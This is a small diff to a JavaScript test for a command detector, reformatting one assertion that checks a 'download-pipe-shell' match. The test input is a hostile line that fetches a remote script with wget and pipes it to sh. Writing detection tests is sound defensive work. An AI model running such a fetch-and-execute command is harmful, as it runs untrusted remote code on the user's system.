@@ -19,6 +19,9 @@ describe('matchCommand', () => {
     assert.ok(ms < 4000, `200 crafted lines took ${Math.round(ms)} ms`);
     assert.ok(clippedCommandLines(intel) > 0, 'clipped lines are counted for the gap report');
     // Short lines are never clipped, whatever the budget.
-    assert.deepEqual(matchCommand(intel, 'wget -qO- http://198.51.100.9/m.sh | sh').map((m) => m.id), ['download-pipe-shell']);
+    assert.deepEqual(
+      matchCommand(intel, 'wget -qO- http://198.51.100.9/m.sh | sh').map((m) => m.id),
+      ['download-pipe-shell'],
+    );
   });
 });
